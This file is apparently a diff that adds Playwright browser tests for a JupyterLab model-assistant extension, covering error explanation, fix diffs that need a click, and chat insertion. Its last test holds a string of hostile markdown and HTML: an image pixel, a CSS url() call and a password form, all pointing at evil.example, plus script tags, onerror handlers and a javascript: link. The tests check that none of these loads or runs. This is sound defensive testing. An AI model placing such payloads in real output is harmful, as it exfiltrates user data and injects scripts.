@@ -1,0 +1,148 @@
+"""Help with errors and cells in JupyterLab: nothing is written without a click."""
+
+import json
+import re
+
+from playwright.sync_api import expect
+
+from tests.browser.pages import axe, execute, press, run_cell, set_theme
+
+ACTIVE = "(window.jupyterapp ?? window.jupyterlab).shell.currentWidget.content"
+
+
+def source(page, at=0):
+    return page.evaluate(f"at => {ACTIVE}.widgets[at].model.sharedModel.getSource()", at)
+
+
+def test_an_error_is_explained_and_fixed_in_a_diff_that_only_a_click_writes(browser, lab):
+    lab.settings(model="tiny-chat", maxTokens=60)
+    code = "values = [1, 2]\nprint(sum(values) / 0)"
+    lab.notebook("error.ipynb", code, "1")
+    page = browser.open("error.ipynb")
+    run_cell(page)
+    bar = page.get_by_role("group", name="Help with the error ZeroDivisionError")
+    press(bar, "Explain")
+    answer = page.get_by_role("region", name="Explain the Error")
+    expect(answer.get_by_role("button", name="Close")).to_be_visible()
+    expect(answer.locator(".mlx-lab-markdown")).to_have_text(re.compile(r"\w"))
+    browser.screenshot(page, "lab-error-explained")
+    assert axe(page, ".mlx-lab-card") == []
+    answer.get_by_role("button", name="Close").press("Escape")
+    expect(answer).to_have_count(0)
+    press(bar, "Fix")
+    card = page.get_by_role("region", name="Fix the Error")
+    expect(card.get_by_role("button", name="Keep")).to_be_focused()
+    proposed = card.locator(".cm-mergeViewEditor").nth(1).locator(".cm-content")
+    expect(card.get_by_text(re.compile("change.*Nothing is written yet"))).to_be_visible()
+    browser.screenshot(page, "lab-error-fix")
+    assert axe(page, ".mlx-lab-card") == []
+    set_theme(page, "dark")
+    expect(page.locator("#jupyterlab-splash")).to_have_count(0)
+    browser.screenshot(page, "lab-error-fix-dark")
+    new = proposed.evaluate("node => node.cmTile.view.state.doc.toString()")
+    assert source(page) == code != new
+    page.keyboard.press("Enter")
+    expect(card).to_have_count(0)
+    assert source(page) == new
+    # It is an edit like any other.
+    execute(page, "notebook:enter-edit-mode")
+    page.locator(".jp-CodeCell .cm-content").first.click()
+    page.keyboard.press("Control+z")
+    page.wait_for_function(
+        f"code => {ACTIVE}.widgets[0].model.sharedModel.getSource() === code", arg=code
+    )
+
+
+def answer_with(page, text):
+    """Have the page get this answer, whatever a model would write."""
+    chunk = {"choices": [{"index": 0, "delta": {"content": text}}]}
+    body = f"data: {json.dumps(chunk)}\n\ndata: [DONE]\n\n"
+    page.route(
+        re.compile("/v1/chat/completions"),
+        lambda route: route.fulfill(content_type="text/event-stream", body=body),
+    )
+
+
+def test_selected_lines_are_changed_within_their_indentation_and_run(browser, lab):
+    code = "def f(a, b):\n    return a\nprint(f(2, 3))"
+    lab.notebook("selection.ipynb", code)
+    page = browser.open("selection.ipynb")
+    answer_with(page, "Here it is:\n\n```python\nreturn a * b\n```\nDone.")
+    cell = page.locator(".jp-CodeCell").first
+    cell.locator(".cm-line").nth(1).click()
+    page.keyboard.press("Home")
+    page.keyboard.press("Shift+End")
+    cell.locator(".cm-line").nth(1).click(button="right")
+    page.get_by_text("Ask the Model", exact=True).click()
+    browser.screenshot(page, "lab-context-menu")
+    page.get_by_text("Improve", exact=True).click()
+    card = page.get_by_role("region", name="Improve")
+    expect(card.get_by_text("1 change. Nothing is written yet.")).to_be_visible()
+    assert source(page) == code
+    press(card, "Run")
+    expect(cell.locator(".jp-OutputArea-output")).to_have_text("6")
+    assert source(page) == code.replace("return a\n", "return a * b\n")
+
+
+def chat_of(page):
+    execute(page, "mlx-notebook:open-chat")
+    return page.get_by_role("region", name="Chat with a model on this machine")
+
+
+def test_the_chat_answers_in_markdown_whose_code_goes_into_the_notebook(browser, lab):
+    lab.settings(model="tiny-chat")
+    lab.notebook("chat.ipynb", "values = [1, 2]")
+    page = browser.open("chat.ipynb")
+    chat = chat_of(page)
+    question = chat.get_by_role("textbox", name="Question")
+    expect(question).to_be_focused()
+    expect(chat.get_by_text(re.compile("about .* tokens"))).to_be_visible()
+    page.keyboard.type("What is in values?")
+    page.keyboard.press("Enter")
+    expect(chat.get_by_text(re.compile(r"\d+ tokens?, [\d,]+ tokens/s"))).to_have_count(1)
+    trace = next(
+        t for t in lab.request("mlx/traces")["data"] if t["endpoint"].endswith("/chat/completions")
+    )
+    assert "```python\nvalues = [1, 2]\n```" in lab.request(f"mlx/traces/{trace['id']}")["prompt"]
+    press(chat, "This cell")
+    press(chat, "New chat")
+    question.fill("Write a function that adds two numbers in Python")
+    question.press("Enter")
+    press(chat, "Insert the code below this cell")
+    expect(chat.get_by_text("Inserted below.")).to_be_visible()
+    assert source(page, 1).startswith("def ")
+    page.locator(".jp-CodeCell").first.locator(".cm-content").click()
+    press(chat, "Replace this cell by the code, after a look at the changes")
+    card = page.get_by_role("region", name="Replace the Cell")
+    press(card, "Keep")
+    assert source(page, 0) == source(page, 1)
+    browser.screenshot(page, "lab-chat")
+    set_theme(page, "dark")
+    expect(page.locator("#jupyterlab-splash")).to_have_count(0)
+    browser.screenshot(page, "lab-chat-dark")
+    assert axe(page, ".mlx-lab-chat") == []
+
+
+HOSTILE = """A picture ![of you](https://evil.example/pixel.png?secret) and
+<img src=x onerror="window.hacked = 1"><script>window.hacked = 1</script>
+<div style="background: url(https://evil.example/style.png)">text</div>
+<form action="https://evil.example/"><input name="password"></form>
+[here](javascript:window.hacked=1)
+"""
+
+
+def test_what_a_model_writes_loads_nothing_and_runs_nothing(browser, lab):
+    lab.notebook("hostile.ipynb", "1")
+    page = browser.open("hostile.ipynb")
+    answer_with(page, HOSTILE)
+    asked = []
+    page.on("request", lambda request: asked.append(request.url))
+    chat = chat_of(page)
+    chat.get_by_role("textbox", name="Question").fill("Hello")
+    press(chat, "Send")
+    link = chat.get_by_role("link", name="of you")
+    expect(link).to_have_attribute("href", "https://evil.example/pixel.png?secret")
+    assert not [url for url in asked if "evil.example" in url]
+    assert page.evaluate("window.hacked") is None
+    assert chat.locator("article").locator("img, form, input, script, [style*=url]").count() == 0
+    assert chat.locator("a[href^=javascript]").count() == 0
